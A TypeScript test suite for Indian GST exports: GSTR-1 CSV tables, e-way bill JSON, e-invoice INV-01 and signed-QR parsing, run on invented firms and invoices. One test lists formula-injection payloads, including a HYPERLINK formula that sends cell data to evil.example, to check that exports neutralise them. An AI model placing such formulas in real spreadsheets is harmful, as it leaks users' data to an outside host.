import { describe, expect, it } from "vitest";
import { eInvoiceJson } from "./e-invoice";
import { eInvoiceDocumentSchema, signedQrData } from "./e-invoice-schema";
import {
  ewayBillBulkJson,
  ewayBillBulkSchema,
  ewayTransportError,
  ewayValidityDays,
  mainHsnOf,
} from "./eway-bill-export";
import type { GstParty, GstRecord, GstSeller } from "./gst-record";
import { buildGstr1, gstr1Date, gstr1MonthError } from "./gstr1";
import { computeGstSplit, type GstSplit } from "./tax-split";

const SELLER: GstSeller = {
  gstin: "07AABCR7431M1Z4",
  legalName: "Roshni Lighting Pvt. Ltd.",
  tradeName: "Roshni Lighting",
  address1: "Shop 12, Bhagirath Palace",
  address2: "Chandni Chowk",
  place: "Delhi",
  pincode: "110006",
  stateCode: "07",
  phone: "+911123861234",
  email: "sales@roshnilighting.in",
};

/** The registered firm: its legal name and the address of its registration (a Pune PIN, GSTIN state 27). */
const PUNE: GstParty = {
  name: "Kulkarni Electricals Pvt. Ltd.",
  gstin: "27AAGFM5823Q1ZO",
  address1: "14, Laxmi Road",
  place: "Pune",
  pincode: "411030",
  stateCode: "27",
};
const DELHI: GstParty = {
  name: "Ravi Sharma",
  gstin: null,
  address1: "45, Chandni Chowk",
  place: "Delhi",
  pincode: "110006",
  stateCode: "07",
};
const BENGALURU: GstParty = {
  name: "Meera Rao",
  gstin: null,
  address1: "7, MG Road",
  place: "Bengaluru",
  pincode: "560001",
  stateCode: "29",
};

const MIXED = [
  { price: 120_000, quantity: 3, taxRate: 18, hsnCode: "9405", title: "Brass Wall Lamp" },
  { price: 45_000, quantity: 2, taxRate: 12, hsnCode: "8539", title: "Filament Bulb" },
];

function record(
  kind: GstRecord["kind"],
  number: string,
  issuedAt: string,
  party: GstParty,
  cart: typeof MIXED,
  extra: Partial<GstRecord> = {},
): GstRecord {
  const intraState = party.stateCode === "07";
  const split: GstSplit = computeGstSplit({ lines: cart, toPayShipping: false, intraState });
  return {
    kind,
    number,
    issuedAt: new Date(issuedAt),
    buyer: party,
    shipTo: party,
    placeOfSupply: party.stateCode,
    intraState,
    lines: [
      ...split.lines.map((l, i) => ({
        description: cart[i]?.title ?? "",
        hsnCode: cart[i]?.hsnCode ?? "",
        quantity: cart[i]?.quantity ?? 0,
        unit: "PCS",
        unitPrice: cart[i]?.price ?? 0,
        value: l.subtotal,
        discount: l.discount,
        taxable: l.taxable,
        rate: l.rate,
        cgst: l.cgst,
        sgst: l.sgst,
        igst: l.igst,
      })),
      ...split.charges.map((c) => ({
        description: c.kind === "packaging" ? "Packing charges" : "Freight charges",
        hsnCode: "9405",
        quantity: null,
        unit: "PCS",
        unitPrice: null,
        value: c.amount,
        discount: c.discount,
        taxable: c.taxable,
        rate: c.rate,
        cgst: c.cgst,
        sgst: c.sgst,
        igst: c.igst,
      })),
    ],
    taxable: split.taxable,
    cgst: split.cgst,
    sgst: split.sgst,
    igst: split.igst,
    total: split.total,
    ...extra,
  };
}

const BIG = [{ price: 250_000, quantity: 50, taxRate: 18, hsnCode: "9405", title: "Crystal Chandelier" }];

const toPune = record("invoice", "RL/25-26/000001", "2026-03-10T06:00:00Z", PUNE, MIXED);
const toDelhi = record("invoice", "RL/25-26/000002", "2026-03-11T06:00:00Z", DELHI, MIXED);
const toBengaluru = record("invoice", "RL/25-26/000004", "2026-03-12T06:00:00Z", BENGALURU, BIG);
const nextMonth = record("invoice", "RL/26-27/000001", "2026-03-31T18:30:00Z", DELHI, MIXED);
const creditPune = record("credit-note", "CN/25-26/0001", "2026-03-20T06:00:00Z", PUNE, MIXED, {
  invoice: { number: toPune.number, issuedAt: toPune.issuedAt, total: toPune.total },
});
const creditDelhi = record(
  "credit-note",
  "CN/25-26/0002",
  "2026-03-21T06:00:00Z",
  DELHI,
  [MIXED[1] as (typeof MIXED)[number]],
  {
    invoice: { number: toDelhi.number, issuedAt: toDelhi.issuedAt, total: toDelhi.total },
  },
);
const ALL = [toPune, toDelhi, toBengaluru, nextMonth, creditPune, creditDelhi];
const NOW = new Date("2026-04-05T06:00:00Z");

function rows(csvText: string): string[][] {
  return csvText
    .trim()
    .split("\r\n")
    .map((line) => line.split(","));
}

describe("GSTR-1 month export", () => {
  const gstr1 = buildGstr1("2026-03", ALL, NOW);

  it("B2B: per invoice and rate, with the invoice value, place of supply and reverse charge", () => {
    expect(rows(gstr1.files.b2b)).toEqual([
      [
        "GSTIN/UIN of Recipient",
        "Receiver Name",
        "Invoice Number",
        "Invoice date",
        "Invoice Value",
        "Place Of Supply",
        "Reverse Charge",
        "Applicable % of Tax Rate",
        "Invoice Type",
        "E-Commerce GSTIN",
        "Rate",
        "Taxable Value",
        "Cess Amount",
      ],
      [
        "27AAGFM5823Q1ZO",
        "Kulkarni Electricals Pvt. Ltd.",
        "RL/25-26/000001",
        "10-Mar-2026",
        "7191.50",
        "27-Maharashtra",
        "N",
        "",
        "Regular B2B",
        "",
        "12",
        "900.00",
        "0.00",
      ],
      [
        "27AAGFM5823Q1ZO",
        "Kulkarni Electricals Pvt. Ltd.",
        "RL/25-26/000001",
        "10-Mar-2026",
        "7191.50",
        "27-Maharashtra",
        "N",
        "",
        "Regular B2B",
        "",
        "18",
        "5240.25",
        "0.00",
      ],
    ]);
  });

  it("B2CL holds the inter-state unregistered invoice above ₹1,00,000; B2CS the rest net of its credit note", () => {
    const b2cl = rows(gstr1.files.b2cl);
    expect(b2cl).toHaveLength(2);
    expect(b2cl[1]?.slice(0, 4)).toEqual([
      "RL/25-26/000004",
      "12-Mar-2026",
      (toBengaluru.total / 100).toFixed(2),
      "29-Karnataka",
    ]);
    expect(toBengaluru.total).toBeGreaterThan(10_000_000);
    // Delhi's invoice at 12 % and 18 %, less its credit note (bulbs, with packing and freight at 12 %).
    const credited = (rate: number) =>
      creditDelhi.lines.filter((l) => l.rate === rate).reduce((sum, l) => sum + l.taxable, 0);
    expect(credited(12)).toBe(90_000 + 32_805);
    expect(rows(gstr1.files.b2cs).slice(1)).toEqual([
      ["OE", "07-Delhi", "", "12", ((90_000 - credited(12)) / 100).toFixed(2), "0.00", ""],
      ["OE", "07-Delhi", "", "18", "5240.25", "0.00", ""],
    ]);
  });

  it("CDNR: the registered buyer's credit note per rate; HSN summary net of credit notes; documents issued", () => {
    expect(rows(gstr1.files.cdnr).slice(1)).toEqual([
      [
        "27AAGFM5823Q1ZO",
        "Kulkarni Electricals Pvt. Ltd.",
        "CN/25-26/0001",
        "20-Mar-2026",
        "C",
        "27-Maharashtra",
        "N",
        "Regular B2B",
        "7191.50",
        "",
        "12",
        "900.00",
        "0.00",
      ],
      [
        "27AAGFM5823Q1ZO",
        "Kulkarni Electricals Pvt. Ltd.",
        "CN/25-26/0001",
        "20-Mar-2026",
        "C",
        "27-Maharashtra",
        "N",
        "Regular B2B",
        "7191.50",
        "",
        "18",
        "5240.25",
        "0.00",
      ],
    ]);
    expect(rows(gstr1.files.cdnur)).toHaveLength(1);
    expect(rows(gstr1.files.docs).slice(1)).toEqual([
      ["Invoices for outward supply", "RL/25-26/000001", "RL/25-26/000004", "4", "1"],
      ["Credit Note", "CN/25-26/0001", "CN/25-26/0002", "2", "0"],
    ]);
    const header = [
      "HSN",
      "Description",
      "UQC",
      "Total Quantity",
      "Total Value",
      "Rate",
      "Taxable Value",
      "Integrated Tax Amount",
      "Central Tax Amount",
      "State/UT Tax Amount",
      "Cess Amount",
    ];
    // From May 2025 two tables: registered buyers (Pune) and the rest (Delhi, Bengaluru).
    const b2b = rows(gstr1.files["hsn-b2b"]);
    const b2c = rows(gstr1.files["hsn-b2c"]);
    expect(b2b[0]).toEqual(header);
    expect(b2c[0]).toEqual(header);
    // 8539 at 12 %: Pune's bulbs invoiced and credited: nothing left; the HSN's description, not a title.
    expect(b2b.slice(1)).toEqual([
      [
        "8539",
        "Electric filament or discharge lamps; light-emitting diode (LED) light sources",
        "PCS-PIECES",
        "0",
        "0.00",
        "12",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
      ],
      [
        "9405",
        "Lamps and lighting fittings",
        "PCS-PIECES",
        "0",
        "0.00",
        "18",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
        "0.00",
      ],
    ]);
    const lamps = b2c.find((r) => r[0] === "9405" && r[5] === "18");
    expect(lamps?.slice(0, 4)).toEqual(["9405", "Lamps and lighting fittings", "PCS-PIECES", String(3 + 50)]);
    expect(b2c.every((r) => r[1] !== "Brass Wall Lamp" && r[1] !== "Crystal Chandelier")).toBe(true);
    const taxable = (table: string[][]) =>
      table.slice(1).reduce((sum, r) => sum + Math.round(Number(r[6]) * 100), 0);
    expect(taxable(b2b) + taxable(b2c)).toBe(gstr1.totals.tables.hsn);
    expect(taxable(b2b)).toBe(toPune.taxable - creditPune.taxable);
  });

  it("totals match the month's invoices and credit notes to the paisa; other months are left out", () => {
    const { totals } = gstr1;
    const invoices = [toPune, toDelhi, toBengaluru];
    const sum = (list: GstRecord[], pick: (r: GstRecord) => number) => list.reduce((s, r) => s + pick(r), 0);
    expect(totals.invoices).toEqual({
      count: 3,
      taxable: sum(invoices, (r) => r.taxable),
      cgst: sum(invoices, (r) => r.cgst),
      sgst: sum(invoices, (r) => r.sgst),
      igst: sum(invoices, (r) => r.igst),
      total: sum(invoices, (r) => r.total),
    });
    expect(totals.invoices.taxable + totals.invoices.cgst + totals.invoices.sgst + totals.invoices.igst).toBe(
      totals.invoices.total,
    );
    const creditedB2cs = creditDelhi.taxable;
    expect(totals.tables.b2b + totals.tables.b2cl + totals.tables.b2cs).toBe(
      totals.invoices.taxable - creditedB2cs,
    );
    expect(totals.tables.cdnr + totals.tables.cdnur + creditedB2cs).toBe(totals.creditNotes.taxable);
    expect(totals.tables.hsn).toBe(totals.invoices.taxable - totals.creditNotes.taxable);
    expect(gstr1.files.b2cs).not.toContain("RL/26-27/000001");
  });

  it("refuses a month that has not begun and a malformed month", () => {
    expect(() => buildGstr1("2026-05", ALL, NOW)).toThrow(
      "GSTR-1 for 2026-05 cannot be exported: that month has not begun.",
    );
    expect(gstr1MonthError("2026-04", NOW)).toBeNull();
    expect(gstr1MonthError("2026-13", NOW)).toBe("Choose the month as YYYY-MM, for example 2026-03.");
    // 1 April 00:00 IST is already April.
    expect(gstr1MonthError("2026-04", new Date("2026-03-31T18:30:00Z"))).toBeNull();
    expect(gstr1MonthError("2026-04", new Date("2026-03-31T18:29:00Z"))).not.toBeNull();
    expect(gstr1Date(new Date("2026-03-31T18:30:00Z"))).toBe("01-Apr-2026");
  });
});

/** RFC 4180 fields (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i] as string;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(field);
      field = "";
    } else if (char === "\r" && text[i + 1] === "\n") {
      row.push(field);
      out.push(row);
      row = [];
      field = "";
      i++;
    } else field += char;
  }
  if (field !== "" || row.length > 0) out.push([...row, field]);
  return out;
}

describe("GSTR-1 tables carry no formulas", () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"];
  const NUMBER_COLUMNS = [
    "Invoice Value",
    "Note Value",
    "Rate",
    "Taxable Value",
    "Cess Amount",
    "Total Quantity",
    "Total Value",
    "Integrated Tax Amount",
    "Central Tax Amount",
    "State/UT Tax Amount",
    "Total Number",
    "Cancelled",
  ];

  it("neutralises hostile names and descriptions in every table; numbers stay numbers", () => {
    for (const hostile of HOSTILE) {
      const party = { ...PUNE, name: hostile };
      const unregistered = { ...BENGALURU, name: hostile };
      const cart = [{ ...(BIG[0] as (typeof BIG)[number]), title: hostile }];
      const invoice = record("invoice", "RL/25-26/000010", "2026-03-10T06:00:00Z", party, cart);
      const big = record("invoice", "RL/25-26/000011", "2026-03-10T07:00:00Z", unregistered, cart);
      const earlier = record("invoice", "RL/25-26/000009", "2026-02-10T06:00:00Z", DELHI, MIXED);
      const notes = [
        record("credit-note", "CN/25-26/0010", "2026-03-20T06:00:00Z", party, cart, {
          invoice: { number: invoice.number, issuedAt: invoice.issuedAt, total: invoice.total },
        }),
        record("credit-note", "CN/25-26/0011", "2026-03-20T07:00:00Z", unregistered, cart, {
          invoice: { number: big.number, issuedAt: big.issuedAt, total: big.total },
        }),
        // A credit note on February's B2CS invoice makes March's B2CS row negative.
        record("credit-note", "CN/25-26/0012", "2026-03-21T06:00:00Z", DELHI, MIXED, {
          invoice: { number: earlier.number, issuedAt: earlier.issuedAt, total: earlier.total },
        }),
      ];
      const { files } = buildGstr1("2026-03", [earlier, invoice, big, ...notes], NOW, () => hostile);
      let negative = false;
      for (const [table, text] of Object.entries(files)) {
        const [header, ...body] = parseCsv(text);
        expect(body.length, table).toBeGreaterThan(0);
        for (const row of body) {
          row.forEach((cell, index) => {
            const column = header?.[index] ?? "";
            if (NUMBER_COLUMNS.includes(column) && cell !== "") {
              expect(cell, `${table} ${column}`).toMatch(/^-?\d+(\.\d+)?$/);
              if (cell.startsWith("-")) negative = true;
            } else {
              expect(/^[=+\-@\t\r]/.test(cell), `${table} ${column}: ${JSON.stringify(cell)}`).toBe(false);
            }
          });
        }
      }
      expect(negative).toBe(true);
      const b2b = parseCsv(files.b2b);
      expect(b2b[1]?.[1]).toBe(`'${hostile}`);
      expect(parseCsv(files.cdnr)[1]?.[1]).toBe(`'${hostile}`);
      expect(parseCsv(files["hsn-b2b"]).some((row) => row[1] === `'${hostile}`)).toBe(true);
    }
  });
});

describe("e-way bill bulk JSON", () => {
  it("Part A from the invoice, Part B from the transport; URP for an unregistered buyer", () => {
    const json = ewayBillBulkJson(SELLER, [
      {
        invoice: toPune,
        transport: {
          distanceKm: 1421.4,
          transporterId: "07AAACV1234A1Z5",
          transporterName: "VRL Logistics",
          transDocNo: "LR-88121",
          transDocDate: new Date("2026-03-10T08:00:00Z"),
          vehicleNo: "dl 01 ab 1234",
        },
      },
      { invoice: toDelhi, transport: { distanceKm: 12, transporterId: "07aaacv1234a1z5" } },
    ]);
    expect(json.version).toBe("1.0.0621");
    // The schema the API's document gives the download is the file's exact shape (strict objects).
    expect(ewayBillBulkSchema.safeParse(json).error).toBeUndefined();
    const [pune, delhi] = json.billLists;
    expect(pune).toMatchObject({
      userGstin: "07AABCR7431M1Z4",
      supplyType: "O",
      subSupplyType: 1,
      docType: "INV",
      docNo: "RL/25-26/000001",
      docDate: "10/03/2026",
      transType: 1,
      fromStateCode: 7,
      toGstin: "27AAGFM5823Q1ZO",
      toPincode: 411030,
      toStateCode: 27,
      actualToStateCode: 27,
      totalValue: 6140.25,
      igstValue: 1051.25,
      cgstValue: 0,
      totInvValue: 7191.5,
      TotNonAdvolVal: 0,
      transMode: 1,
      transDistance: "1421",
      transporterId: "07AAACV1234A1Z5",
      transDocNo: "LR-88121",
      transDocDate: "10/03/2026",
      vehicleNo: "DL01AB1234",
      mainHsnCode: 9405,
    });
    expect(pune?.itemList[0]).toEqual({
      itemNo: 1,
      productName: "Brass Wall Lamp",
      productDesc: "Brass Wall Lamp",
      hsnCode: 9405,
      quantity: 3,
      qtyUnit: "PCS",
      taxableAmount: 3600,
      cgstRate: 0,
      sgstRate: 0,
      igstRate: 18,
      cessRate: 0,
      cessNonAdvol: 0,
    });
    const items = pune?.itemList ?? [];
    expect(items.reduce((s, i) => s + Math.round(i.taxableAmount * 100), 0)).toBe(toPune.taxable);
    expect(delhi).toMatchObject({
      toGstin: "URP",
      cgstValue: 525.62,
      sgstValue: 525.62,
      igstValue: 0,
      totInvValue: 7191.49,
      // Part A only: the transporter completes Part B.
      transMode: "",
      vehicleNo: "",
      transporterId: "07AAACV1234A1Z5",
    });
    expect(pune).not.toHaveProperty("cessNonAdvolValue");
    expect(delhi?.itemList[1]).toMatchObject({ cgstRate: 6, sgstRate: 6, igstRate: 0 });
    expect(() =>
      ewayBillBulkJson(SELLER, [
        { invoice: creditPune, transport: { distanceKm: 1, vehicleNo: "DL01AB1234" } },
      ]),
    ).toThrow(RangeError);
    expect(ewayValidityDays(1421)).toBe(8);
    expect(ewayValidityDays(12)).toBe(1);
  });
});

describe("e-way bill checks the portal makes", () => {
  it("refuses a bill without Part B, a bad vehicle number, and a same-PIN move above 100 km", () => {
    const bill = (transport: Parameters<typeof ewayBillBulkJson>[1][number]["transport"]) =>
      ewayBillBulkJson(SELLER, [{ invoice: toDelhi, transport }]);
    expect(() => bill({ distanceKm: 12 })).toThrow(/vehicle number .* or the transporter's id/);
    expect(() => bill({ distanceKm: 12, vehicleNo: "12" })).toThrow(/not a vehicle number/);
    expect(() => bill({ distanceKm: 12, transporterId: "ABC" })).toThrow(/15 characters/);
    // toDelhi is delivered to the shop's own PIN 110006.
    expect(toDelhi.shipTo.pincode).toBe(SELLER.pincode);
    expect(() => bill({ distanceKm: 101, vehicleNo: "DL01AB1234" })).toThrow(/at most 100 km, not 101 km/);
    expect(bill({ distanceKm: 100, vehicleNo: "DL 01 AB 1234" }).billLists[0]?.vehicleNo).toBe("DL01AB1234");
    expect(ewayTransportError(SELLER, toPune, { distanceKm: 1421, vehicleNo: "MH12AB1234" })).toBeNull();
  });

  it("mainHsnCode is the HSN carrying most of the value, not the largest single line", () => {
    const cart = [
      { price: 300_000, quantity: 1, taxRate: 12, hsnCode: "8539", title: "Bulb crate" },
      { price: 200_000, quantity: 1, taxRate: 18, hsnCode: "9405", title: "Lamp A" },
      { price: 200_000, quantity: 1, taxRate: 18, hsnCode: "9405", title: "Lamp B" },
    ];
    const invoice = record("invoice", "RL/25-26/000020", "2026-03-10T06:00:00Z", PUNE, cart);
    expect(mainHsnOf(invoice.lines)).toBe("9405");
    const json = ewayBillBulkJson(SELLER, [
      { invoice, transport: { distanceKm: 1421, vehicleNo: "MH12AB1234" } },
    ]);
    expect(json.billLists[0]?.mainHsnCode).toBe(9405);
  });
});

describe("bill-to / ship-to: one GSTIN, one name", () => {
  // The firm is registered in Maharashtra (27); the goods go to its site in Delhi.
  const SITE: GstParty = {
    name: "Site manager Ravi",
    tradeName: "Kulkarni Site Office",
    gstin: null,
    address1: "Plot 9, Okhla Phase 2",
    place: "New Delhi",
    pincode: "110020",
    stateCode: "07",
  };
  const shipped = record("invoice", "RL/25-26/000030", "2026-03-15T06:00:00Z", PUNE, MIXED, { shipTo: SITE });

  it("INV-01: BuyerDtls is the registered firm at its own address, ShipDtls the delivery address", () => {
    const json = eInvoiceJson(SELLER, shipped);
    expect(json.BuyerDtls).toMatchObject({
      Gstin: "27AAGFM5823Q1ZO",
      LglNm: "Kulkarni Electricals Pvt. Ltd.",
      TrdNm: "Kulkarni Electricals Pvt. Ltd.",
      Pin: 411030,
      Stcd: "27",
      Pos: "27",
      Loc: "Pune",
    });
    expect(json.ShipDtls).toEqual({
      LglNm: "Kulkarni Site Office",
      Addr1: "Plot 9, Okhla Phase 2",
      Loc: "New Delhi",
      Pin: 110020,
      Stcd: "07",
    });
    expect(eInvoiceDocumentSchema.safeParse(json).error).toBeUndefined();
    expect(eInvoiceJson(SELLER, toPune)).not.toHaveProperty("ShipDtls");
  });

  it("the e-way bill and GSTR-1 name the firm, never the company on the delivery address", () => {
    const bill = ewayBillBulkJson(SELLER, [
      { invoice: shipped, transport: { distanceKm: 15, vehicleNo: "DL01AB1234" } },
    ]).billLists[0];
    expect(bill).toMatchObject({
      transType: 2,
      toGstin: "27AAGFM5823Q1ZO",
      toTrdName: "Kulkarni Electricals Pvt. Ltd.",
      toStateCode: 27,
      actualToStateCode: 7,
      toPincode: 110020,
    });
    const b2b = rows(buildGstr1("2026-03", [shipped], NOW).files.b2b);
    expect(b2b[1]?.[1]).toBe("Kulkarni Electricals Pvt. Ltd.");
  });
});

describe("e-invoice (INV-01)", () => {
  it("the registered buyer's invoice with items, values and the place of supply", () => {
    const json = eInvoiceJson(SELLER, toPune);
    expect(json.TranDtls).toEqual({ TaxSch: "GST", SupTyp: "B2B", RegRev: "N", IgstOnIntra: "N" });
    expect(json.DocDtls).toEqual({ Typ: "INV", No: "RL/25-26/000001", Dt: "10/03/2026" });
    expect(json.BuyerDtls).toMatchObject({ Gstin: "27AAGFM5823Q1ZO", Pos: "27", Stcd: "27", Pin: 411030 });
    expect(json.SellerDtls).toMatchObject({ Gstin: "07AABCR7431M1Z4", Stcd: "07", Pin: 110006 });
    expect(json.ItemList[3]).toMatchObject({
      SlNo: "4",
      PrdDesc: "Freight charges",
      HsnCd: "9405",
      Qty: 1,
      Unit: "OTH",
      TotAmt: 1343.25,
      AssAmt: 1343.25,
      GstRt: 18,
      IgstAmt: 241.79,
      TotItemVal: 1585.04,
    });
    expect(json.ValDtls).toEqual({
      AssVal: 6140.25,
      CgstVal: 0,
      SgstVal: 0,
      IgstVal: 1051.25,
      CesVal: 0,
      StCesVal: 0,
      Discount: 0,
      OthChrg: 0,
      RndOffAmt: 0,
      TotInvVal: 7191.5,
    });
    const items = json.ItemList.reduce((s, i) => s + Math.round(i.TotItemVal * 100), 0);
    expect(items).toBe(toPune.total);
    const credit = eInvoiceJson(SELLER, creditPune);
    expect(credit.DocDtls.Typ).toBe("CRN");
    expect(credit.RefDtls).toEqual({ PrecDocDtls: [{ InvNo: "RL/25-26/000001", InvDt: "10/03/2026" }] });
    expect(() => eInvoiceJson(SELLER, toDelhi)).toThrow(/registered buyers/);
  });
});

describe("INV-01 shape and sums (eInvoiceDocumentSchema)", () => {
  it("the export passes the IRP's field rules and sums; a changed value or a wrong field is caught", () => {
    const json = eInvoiceJson(SELLER, toPune);
    expect(eInvoiceDocumentSchema.safeParse(json).success).toBe(true);
    expect(eInvoiceDocumentSchema.safeParse(eInvoiceJson(SELLER, creditPune)).success).toBe(true);

    const total = structuredClone(json);
    total.ValDtls.TotInvVal = 7191.51;
    expect(eInvoiceDocumentSchema.safeParse(total).error?.issues[0]?.path).toEqual(["ValDtls", "TotInvVal"]);

    const item = structuredClone(json);
    (item.ItemList[0] as { TotItemVal: number }).TotItemVal += 0.01;
    expect(eInvoiceDocumentSchema.safeParse(item).error?.issues[0]?.path).toEqual([
      "ItemList",
      0,
      "TotItemVal",
    ]);

    const split = structuredClone(json);
    split.ValDtls.CgstVal = 1;
    expect(eInvoiceDocumentSchema.safeParse(split).success).toBe(false);

    const rate = structuredClone(json);
    (rate.ItemList[0] as { GstRt: number }).GstRt = 17;
    expect(eInvoiceDocumentSchema.safeParse(rate).error?.issues[0]?.path).toEqual(["ItemList", 0, "GstRt"]);

    const version = { ...structuredClone(json), Version: "1.03" };
    expect(eInvoiceDocumentSchema.safeParse(version).success).toBe(false);
    const place = structuredClone(json);
    place.BuyerDtls.Loc = "P";
    expect(eInvoiceDocumentSchema.safeParse(place).error?.issues[0]?.path).toEqual(["BuyerDtls", "Loc"]);
  });

  it("reads the data of the IRP's signed QR code, and nothing from other text", () => {
    const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");
    const data = { DocNo: "RL/26-27/000001", Irn: "a".repeat(64), TotInvVal: 1180.5 };
    const jws = [part({ alg: "RS256" }), part({ data: JSON.stringify(data), iss: "NIC" }), "c2ln"].join(".");
    expect(signedQrData(jws)).toEqual(data);
    expect(signedQrData([part({ alg: "RS256" }), part({ data }), "c2ln"].join("."))).toEqual(data);
    expect(signedQrData("aaaa.bbbb.cccc")).toBeNull();
    expect(signedQrData(`${part({})}.${part({ data: "not json" })}.c2ln`)).toBeNull();
    expect(signedQrData("only-one-part")).toBeNull();
  });
});
